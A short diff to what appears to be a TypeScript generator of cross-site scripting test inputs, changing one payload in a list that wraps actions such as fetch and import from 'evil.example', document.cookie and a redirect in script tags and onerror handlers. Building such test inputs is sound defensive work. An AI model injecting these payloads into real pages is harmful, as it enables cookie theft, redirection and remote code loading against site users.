@@ -41,7 +41,7 @@ function sql(): string[] {
 }
 
 function scripts(): string[] {
-  const acts = ['alert(1)', 'fetch("//evil.example")', 'document.cookie', 'import("//evil.example/x")'];
+  const acts = ['alert(1)', 'fetch("//evil.example")', 'document.cookie', 'location="//evil.example"'];
   const holders = [
     (act: string) => `<script>${act}</script>`,
     (act: string) => `<img src=x onerror=${act}>`,
